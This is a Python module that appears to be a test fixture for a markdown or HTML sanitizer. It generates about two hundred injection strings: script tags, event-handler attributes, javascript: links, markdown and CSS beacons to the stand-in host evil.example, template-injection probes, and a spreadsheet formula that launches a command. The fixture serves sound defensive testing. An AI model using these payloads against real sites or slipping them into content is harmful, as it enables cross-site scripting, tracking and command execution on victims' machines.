"""Two hundred texts that would run, load or look like something where text becomes markup."""

from itertools import product

BEACON = "https://evil.example/b"
"""Nothing is ever sent there: a test fails when the browser asks for it."""

_CALL = "window.broken=1"
_TAGS = [
    f"<script>{_CALL}</script>",
    f"<script src={BEACON}></script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"</textarea><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f"<iframe src={BEACON}></iframe>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<object data={BEACON}></object>",
    f"<embed src={BEACON}>",
    f"<link rel=stylesheet href={BEACON}>",
    f"<link rel=prefetch href={BEACON}>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<base href={BEACON}>",
    f"<form action={BEACON}><button autofocus>x</button></form>",
    f"<style>@import '{BEACON}';</style>",
    f"<style>*{{background:url({BEACON})}}</style>",
    f"<p style=\"background:url('{BEACON}')\">x</p>",
    f"<img src={BEACON}>",
    f"<img srcset='{BEACON} 2x'>",
    f"<picture><source srcset={BEACON}><img></picture>",
    f"<video poster={BEACON}></video>",
    f"<audio src={BEACON} autoplay></audio>",
    f"<svg><image href={BEACON} /></svg>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><use href='{BEACON}#x'/></svg>",
    f"<math><mtext><script>{_CALL}</script></mtext></math>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><img src={BEACON}></noscript>",
    f"<xss style='animation-name:x' onanimationstart={_CALL}>",
]
_EVENTS = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter"]
_HOLDERS = [
    "<img src=x {}>",
    "<svg {}>",
    "<body {}>",
    "<input autofocus {}>",
    "<details open {}>",
    "<video src=x {}>",
    "<a href=# {}>x</a>",
    "<div tabindex=0 {}>x</div>",
    "<audio src=x {}>",
    "<marquee {}>x</marquee>",
]
_ATTRIBUTES = [holder.format(f"{event}={_CALL}") for holder, event in product(_HOLDERS, _EVENTS)]
_LINKS = [
    f"[x]({scheme})"
    for scheme in (
        f"javascript:{_CALL}",
        f"JaVaScRiPt:{_CALL}",
        f"java\tscript:{_CALL}",
        f"data:text/html,<script>{_CALL}</script>",
        f"vbscript:{_CALL}",
        BEACON,
        f"//{BEACON.removeprefix('https://')}",
        f"&#106;avascript:{_CALL}",
    )
]
_MARKDOWN = [
    f"![x]({BEACON})",
    f"![x]({BEACON} 'title')",
    f"![x][r]\n[r]: {BEACON}",
    f"[![x]({BEACON})]({BEACON})",
    f"<{BEACON}>",
    BEACON,
    f"www.{BEACON.removeprefix('https://')}",
    f"# heading {BEACON}",
    "**bold** __bold__ *em* _em_ ~~gone~~ `code`",
    "```\ncode\n```",
    "> quoted",
    "- item\n- item",
    "1. item",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "---",
    "- [ ] task",
    "[^1]: note",
    ":red[danger]",
    ":red-background[danger]",
    ":rainbow[x] :small[x] :shimmer[x]",
    ":violet-badge[x]",
    ":smile: :streamlit:",
    ":material/home:",
    r"$\frac{a}{b}$",
    r"$$\href{javascript:alert(1)}{x}$$",
    rf"$\includegraphics{{{BEACON}}}$",
    "<!-- comment -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
]
_QUOTES = ['"', "'", "`", "\\", "</", "\u202e", "\u0000x".strip("\u0000"), "\u2028"]
_BREAKS = [
    f"{quote}{tail}"
    for quote, tail in product(
        _QUOTES, [f";{_CALL}//", f"+{_CALL}+", f" autofocus onfocus={_CALL} "]
    )
]
_SHEETS = ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "%0d%0a<b>x</b>", "..\\..\\x"]
_FIELDS = [f"<{tag} src={BEACON} onerror={_CALL}>" for tag in ("image", "source", "track", "frame")]
_MORE = [
    f"<{tag}>{text}</{tag}>" for tag in ("h1", "b", "marquee", "button") for text in ("x", BEACON)
]
_MORE += [f"<a href={BEACON} ping={BEACON}>x</a>", f"<table background={BEACON}><td>x</td></table>"]
_MORE += [f"%3Cscript%3E{_CALL}%3C/script%3E", f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e"]
_MORE += [f"<{case}mg src={BEACON}>" for case in ("I", "i\u200b", "\u0131")]
_MORE += [f"<div {a}={BEACON}>x</div>" for a in ("data", "src", "href", "background", "cite")]
_MORE += [f"<svg><animate {a}={_CALL} attributeName=x dur=1s>" for a in ("onbegin", "onend")]
_MORE += [f"<select autofocus onfocus={_CALL}>", f"<textarea autofocus onfocus={_CALL}>"]
_MORE += [f"<keygen autofocus onfocus={_CALL}>", f"<isindex type=image src={BEACON}>"]

PAYLOADS = tuple(
    dict.fromkeys([*_TAGS, *_ATTRIBUTES, *_LINKS, *_MARKDOWN, *_BREAKS, *_SHEETS, *_FIELDS, *_MORE])
)
